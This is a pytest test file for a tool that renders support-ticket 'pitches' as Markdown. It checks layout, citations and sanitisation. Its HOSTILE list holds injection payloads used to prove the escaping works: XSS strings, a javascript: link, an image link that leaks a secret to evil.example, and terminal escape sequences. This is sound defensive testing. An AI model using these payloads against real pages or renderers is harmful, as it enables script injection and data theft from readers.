"""The Markdown a reader sees: order, omissions, blanks, citations, nothing smuggled in."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from tests.render.pitch_example import example_pitch, say
from translator.models import Block, Finding, Pitch, ReplacedTerm, Sentence
from translator.render import RENDERERS, as_markdown
from translator.render.escape import code_span, fence, inline
from translator.render.markdown import front_of

SNAPSHOT = Path(__file__).parent / "pitch_example.md"


def _commonmark() -> MarkdownIt:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _change(pitch: Pitch, part: str, **changes: Any) -> Pitch:
    """The pitch with fields of one part of its draft changed; "" is the pitch itself."""
    if not part:
        return pitch.model_copy(update=changes)
    if part == "draft":
        return pitch.model_copy(update={"draft": pitch.draft.model_copy(update=changes)})
    inner = getattr(pitch.draft, part).model_copy(update=changes)
    return _change(pitch, "draft", **{part: inner})


def test_example_pitch_reads_as_approved() -> None:
    """The whole page, word for word, as a person last approved it."""
    assert as_markdown(example_pitch()) == SNAPSHOT.read_text(encoding="utf-8")


def test_parts_stand_in_reading_order() -> None:
    """What a reader acts on comes before where it comes from."""
    text = as_markdown(example_pitch())
    order = [
        "# In live demos",
        "## Planning note",
        "## From constraint to outcome",
        "## For Sales",
        "## The story, with data",
        "## Questions",
        "<summary>Evidence</summary>",
        "<summary>Technical note</summary>",
        "## Before this goes out",
        "Made by the offline engine",
    ]
    places = [text.index(part) for part in order]
    assert places == sorted(places)


def test_a_part_without_content_is_left_out() -> None:
    """No heading, fold or label stands over nothing."""
    pitch = example_pitch()
    pitch = _change(pitch, "draft", framings=(), story=None, questions=())
    pitch = _change(pitch, "technical", fix=(), cause=(), terms=(), kept=())
    pitch = _change(pitch, "", findings=())
    text = as_markdown(pitch)
    for absent in (
        "## For",
        "## The story",
        "## Questions",
        "Technical note",
        "## Before",
        "Finish",
    ):
        assert absent not in text
    assert not re.search(r"^- \*\*[^*]+:\*\*\s*\n(?!  -)", text, re.MULTILINE)


@pytest.mark.parametrize(
    ("status", "shown"),
    [
        ("claim", "Renew the session."),
        ("assumption", "Renew the session. _(assumption)_"),
        ("proposed", "Renew the session. _(proposed)_"),
    ],
)
def test_status_of_a_sentence_is_visible(status: str, shown: str) -> None:
    """A reader can tell what is known from what is assumed or proposed."""
    pitch = _change(example_pitch(), "note", scope=say("Renew the session.", status=status))
    assert f"- **Scope:** {shown}\n" in as_markdown(pitch)


def test_a_blank_is_bold_and_bears_no_other_mark() -> None:
    """A blank is honest, so it must not be overlooked."""
    text = as_markdown(example_pitch())
    assert "- **Owner:** **[owner needed — ask engineering]**\n" in text


def test_every_citation_leads_to_quoted_words() -> None:
    """Each link of the page has its target on the page, and the words quoted there."""
    html = _commonmark().render(as_markdown(example_pitch()))
    links = set(re.findall(r'href="#([^"]+)"', html))
    targets = set(re.findall(r'<a id="([^"]+)">', html))
    assert links == {"e1", "e2", "n1", "n2", "n3", "a1", "d1"}
    assert links <= targets


def test_at_most_three_citations_follow_a_sentence() -> None:
    """References stay calm; the JSON has all of them."""
    scope = say("Renew it.", "e1", "n1", "n2", "n3", "e2")
    text = as_markdown(_change(example_pitch(), "note", scope=scope))
    assert "- **Scope:** Renew it. ([e1], [n1], [n2])\n" in text


def test_evidence_unknown_to_the_ledger_is_not_linked() -> None:
    """A reference that leads nowhere is not written."""
    text = as_markdown(_change(example_pitch(), "note", scope=say("Renew it.", "n77")))
    assert "- **Scope:** Renew it.\n" in text


def test_two_pitches_in_one_document_keep_their_links_apart() -> None:
    """With a prefix every target and every link carries it."""
    text = as_markdown(example_pitch(), anchors="harb-12-")
    html = _commonmark().render(text)
    assert set(re.findall(r'href="#([^"]+)"', html)) <= set(re.findall(r'<a id="([^"]+)">', html))
    assert all(a.startswith("harb-12-") for a in re.findall(r'<a id="([^"]+)">', html))


def test_terminal_gets_neither_links_nor_folds() -> None:
    """Without anchors the page is headings, lists and text: all that a terminal can show."""
    text = as_markdown(example_pitch(), anchors=None)
    assert "<" not in text
    assert "](" not in text
    assert "]: #" not in text
    assert "(e1)" in text
    assert "\n## Evidence\n" in text
    assert "\n## Technical note\n" in text


def test_evidence_behind_a_formula_is_shown_too() -> None:
    """A computed number can be followed to the numbers it was computed from."""
    text = as_markdown(example_pitch())
    assert "computed: n1 - n9" in text
    assert "**n9** quantity:" in text


def test_evidence_no_sentence_uses_stays_out() -> None:
    """The fold lists what the page rests on, not all that was found."""
    pitch = _change(example_pitch(), "draft", story=None)
    assert "**n9**" not in as_markdown(pitch)


def test_questions_show_their_ids_and_how_to_answer() -> None:
    """Who has the command line sees the command with the id; everybody else what they can do themselves."""
    text = as_markdown(example_pitch(), command=True)
    assert "- **q1** · ask support: Which tickets show this pattern?" in text
    command = 'translator answer PITCH.json --fill q1="…" --by "support"'
    assert f"An answer fills the blank everywhere: `{command}`." in text
    for renderer in RENDERERS:
        assert "translator answer" not in renderer.render(example_pitch())
    assert "give it where this pitch is kept" in as_markdown(example_pitch())


def test_same_finding_in_many_places_is_one_line() -> None:
    """A repeated finding is counted; a must stands first; info is left to the JSON."""
    same = tuple(
        Finding(check="jargon", severity="should", where=f"p{i}", message="Jargon.", fix="Say it.")
        for i in range(3)
    )
    text = as_markdown(_change(example_pitch(), "", findings=same + example_pitch().findings))
    assert text.count("jargon: Jargon.") == 1
    assert "Jargon. (3 places) Say it." in text
    assert text.index("**must**") < text.index("**should**")
    assert "far-number" not in text


def test_long_block_is_shortened_and_says_so() -> None:
    """A log of 100 lines shows 40 and names the 60 left out."""
    pitch = example_pitch()
    log = "\n".join(f"line {i}" for i in range(100))
    ticket = pitch.ticket.model_copy(update={"text": log})
    kept = (Block(kind="log", start=0, end=len(log)),)
    pitch = _change(_change(pitch, "", ticket=ticket), "technical", kept=kept)
    text = as_markdown(pitch)
    assert "line 39\n```" in text
    assert "line 40" not in text
    assert "60 lines left out here" in text


def test_very_many_blocks_are_counted() -> None:
    """A ticket that is all logs does not bury the page."""
    pitch = example_pitch()
    kept = pitch.draft.technical.kept * 23
    text = as_markdown(_change(pitch, "technical", kept=kept))
    assert text.count("WARN session-svc") == 20
    assert "3 more blocks of code" in text


@pytest.mark.parametrize(
    ("update", "said"),
    [
        ({}, "no model was called, nothing left this machine"),
        ({"model": "small-1"}, "with small-1; sent to: nothing left this machine"),
    ],
)
def test_footer_says_who_wrote_it(update: dict[str, Any], said: str) -> None:
    """The footer names the engine and whether anything left the machine."""
    pitch = example_pitch()
    made = pitch.provenance.model_copy(update=update)
    assert said in as_markdown(_change(pitch, "", provenance=made))


def test_footer_says_what_is_not_covered() -> None:
    """Cuts, the reader's notes, missing proof and open questions are said in words."""
    text = as_markdown(example_pitch())
    assert "1,200 characters of the ticket left out at character 200" in text
    assert "an image could not be read" in text
    assert "proof from one side is missing" in text
    assert "2 questions still open" in text


HOSTILE = [
    "[click](javascript:alert(1))",
    "[click] (javascript:alert(1))",
    "[click][e1]",
    "[e1]",
    "[x]: https://evil.example",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "![leak][x]",
    "</details><h1>free</h1>",
    "<!-- hidden",
    "<https://evil.example>",
    "https://evil.example/?a=1&b=2",
    "www.evil.example",
    "mail security@evil.example",
    "ping @everyone and @acme/team",
    "a | b | c",
    "`code` and ``more`` ```",
    "# heading",
    "- item",
    "+ item",
    "1. item",
    "2) item",
    "> quote",
    "--- ",
    "===",
    "***bold*** __bold__ ~~gone~~",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "line\n\n# heading\n```\nfence",
    "line\u2028# heading",
    "back\\slash \\[x](y)",
    "[number needed](https://evil.example)",
    "[<b>number needed</b> — ask you]",
    "[number needed: `x` *y* — ask me]",
    "\x1b[31mred\x1b]8;;https://evil.example\x07",
    "\u202egnirts\u202c",
]
_INERT = {"text", "code_inline", "strong_open", "strong_close"}


def _effects(markdown: str) -> set[str]:
    """The kinds of token in a paragraph that do something other than show words."""
    tokens = _commonmark().parse(markdown)
    kinds = {t.type for t in tokens} - {"paragraph_open", "paragraph_close", "inline"}
    inner = {c.type for t in tokens for c in t.children or ()}
    return kinds | (inner - _INERT)


def _shown(markdown: str) -> str:
    """The words a reader sees."""
    tokens = _commonmark().parse(markdown)
    return "".join(c.content for t in tokens for c in t.children or ())


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_shows_as_words(payload: str) -> None:
    """Markup in ticket text has no effect, at the start of a line or inside one."""
    for text in (payload, f"So {payload} it is"):
        assert _effects(inline(text)) == set()


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_in_every_part_leaves_the_page_as_it_was(payload: str) -> None:
    """The page has the same structure whatever the ticket says."""
    hostile = Sentence(text=payload, plain=payload)
    pitch = example_pitch()
    calm = _change(pitch, "note", scope=say("calm"), effect=say("calm"))
    calm = _change(calm, "technical", terms=(ReplacedTerm(term="a", says="b", start=0, end=1),))
    wild = _change(pitch, "note", scope=hostile, effect=hostile)
    wild = _change(wild, "technical", terms=(ReplacedTerm(term=payload, says=payload, start=0, end=1),))
    wild = _change(
        wild,
        "",
        ticket=pitch.ticket.model_copy(update={"title": payload, "notes": (payload,)}),
    )

    def structure(markdown: str) -> list[str]:
        tokens = _commonmark().parse(markdown)
        inner = [c.type + c.content for t in tokens for c in t.children or () if "html" in c.type]
        links = [str(c.attrs) for t in tokens for c in t.children or () if c.type in _LINKS]
        return [t.type for t in tokens] + inner + links

    assert structure(as_markdown(wild)) == structure(as_markdown(calm))


_LINKS = {"link_open", "image"}


@given(st.text(max_size=80))
def test_any_text_is_inert_and_loses_no_word(text: str) -> None:
    """Whatever the text, it has no effect and shows the same letters and digits."""
    markdown = inline(text)
    assert _effects(markdown) == set()
    kept = [c for c in text if c.isalnum()]
    assert [c for c in _shown(markdown) if c.isalnum()] == kept


@given(st.text(alphabet="`~ab\n\r|", max_size=60))
def test_fence_cannot_be_closed_from_inside(content: str) -> None:
    """A fenced block is one token, whatever it holds."""
    tokens = _commonmark().parse(fence(content))
    assert [t.type for t in tokens] == ["fence"]


@pytest.mark.parametrize(
    ("language", "first"),
    [("java", "```java"), ("mermaid", "```"), ("c++", "```c++"), ("a b\n<x>", "```"), ("", "```")],
)
def test_fence_names_only_languages_that_are_shown(language: str, first: str) -> None:
    """A label that a tracker would draw or run is dropped."""
    assert fence("x", language).splitlines()[0] == first


def test_no_escape_sequence_survives_a_fence() -> None:
    """A log cannot recolour or retitle the reader's terminal."""
    assert "\x1b" not in fence("\x1b[2Jgone")


@pytest.mark.parametrize(
    ("text", "markdown"),
    [
        ("plain words, 3 % → 0.5 %", "plain words, 3 % → 0.5 %"),
        ("snake_case stays", "snake_case stays"),
        ("a -> b > c", "a -> b > c"),
        ("2 * 3", "2 \\* 3"),
        ("R&D at 5 pm", "R&D at 5 pm"),
        ("~40 % in <1 s, a <= b (~3)", "~40 % in <1 s, a <= b (~3)"),
        ("~40~ and ~~5~~", "~40\\~ and \\~\\~5\\~\\~"),
        ("a<b", "a&lt;b"),
        ("issue #12", "issue #12"),
        ("(see https://x.example/a).", "(see `https://x.example/a`)."),
        ("  many \t spaces\n here ", "many spaces here"),
    ],
)
def test_ordinary_text_stays_readable_as_it_is(text: str, markdown: str) -> None:
    """Only what would have an effect is escaped."""
    assert inline(text) == markdown


def test_front_ends_where_the_folds_begin() -> None:
    """The front of a pitch is what a person may edit; other texts are all front."""
    page = as_markdown(example_pitch())
    assert page.startswith(front_of(page))
    assert front_of(page).rstrip().endswith("or to whoever sent it to you.")
    own = "# Mine\n\n<details>\n<summary>Evidence</summary>\n\nMy own words.\n\n</details>\n"
    assert front_of(own) == own


def test_code_span_holds_backticks() -> None:
    """Backticks inside a code span do not end it."""
    assert code_span("a`b") == "``a`b``"


def test_escaping_a_megabyte_takes_linear_time() -> None:
    """Hostile runs of one character are as cheap as prose."""
    import time

    for unit in ("[", "a@", "@", "`", "a.", "www.", "http", "_", "&", "[a needed "):
        text = unit * (300_000 // len(unit))
        began = time.perf_counter()
        inline(text)
        assert time.perf_counter() - began < 3


def test_renderers_have_distinct_names_and_suffixes() -> None:
    """A format can be asked for by name or by file ending without doubt."""
    assert [r.name for r in RENDERERS] == ["md", "html", "page", "adf", "slack", "json"]
    assert len({r.suffix for r in RENDERERS}) == len(RENDERERS)
